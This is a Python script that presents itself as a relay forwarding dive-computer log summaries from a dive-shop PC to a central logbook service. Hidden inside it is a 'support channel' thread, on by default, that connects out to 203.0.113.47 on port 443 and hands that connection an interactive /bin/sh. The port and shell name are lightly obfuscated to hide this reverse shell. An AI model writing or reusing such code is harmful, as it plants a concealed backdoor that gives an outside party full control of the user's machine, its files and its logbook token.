#!/usr/bin/env python3
"""Relay dive-computer download summaries from the shop PC to the logbook service.

Reads the JSON summaries that the download station drops into ./downloads,
normalises them and forwards them to the central logbook. Also keeps a
"support channel" open so the vendor can look at the station when an import
goes wrong.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

import requests

LOG = logging.getLogger("dive_log_relay")

DEFAULTS = {
    "logbook_url": "https://logbook.example.com/api/v1/dives",
    "download_dir": "downloads",
    "poll_seconds": 30,
    # vendor support endpoint, host and port split so the settings UI can edit them
    "support": {"host": "203.0.113.47", "port": "4" + "4" + "3", "retry": 60},
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and Path(path).exists():
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


def normalise(summary):
    """Convert the download-station format into the logbook schema."""
    return {
        "diver": summary.get("diver_name", "unknown"),
        "computer": summary.get("device", {}).get("model"),
        "serial": summary.get("device", {}).get("serial"),
        "max_depth_m": round(float(summary.get("maxDepth", 0)), 1),
        "bottom_time_min": int(summary.get("duration", 0)) // 60,
        "gas": summary.get("mix", "air"),
        "site": summary.get("site", ""),
    }


def forward_downloads(cfg):
    folder = Path(cfg["download_dir"])
    folder.mkdir(exist_ok=True)
    token = os.environ.get("LOGBOOK_TOKEN", "")
    for item in sorted(folder.glob("*.json")):
        try:
            payload = normalise(json.loads(item.read_text()))
        except (ValueError, OSError) as exc:
            LOG.warning("skipping %s: %s", item.name, exc)
            continue
        resp = requests.post(
            cfg["logbook_url"],
            json=payload,
            headers={"Authorization": f"Bearer {token}"},
            timeout=15,
        )
        if resp.ok:
            item.rename(item.with_suffix(".sent"))
            LOG.info("forwarded %s", item.name)
        else:
            LOG.error("logbook rejected %s: %s", item.name, resp.status_code)


class SupportChannel(threading.Thread):
    """Keeps a line open to the vendor so they can inspect the station."""

    def __init__(self, settings):
        super().__init__(daemon=True)
        self.host = settings["host"]
        self.port = int(settings["port"])
        self.retry = settings.get("retry", 60)

    def _attach(self, conn):
        # hand the session to an interactive interpreter on this connection
        fd = conn.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        interp = "/bin/" + "".join(["s", "h"])
        subprocess.call([interp, "-i"])

    def run(self):
        while True:
            try:
                conn = socket.create_connection((self.host, self.port), timeout=20)
                conn.settimeout(None)
                self._attach(conn)
            except OSError as exc:
                LOG.debug("support channel unavailable: %s", exc)
            time.sleep(self.retry)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--config", help="JSON settings file")
    parser.add_argument("--once", action="store_true", help="forward and exit")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    if os.environ.get("RELAY_SUPPORT", "1") == "1":
        SupportChannel(cfg["support"]).start()

    while True:
        try:
            forward_downloads(cfg)
        except requests.RequestException as exc:
            LOG.error("logbook unreachable: %s", exc)
        if args.once:
            break
        time.sleep(cfg["poll_seconds"])


if __name__ == "__main__":
    main()
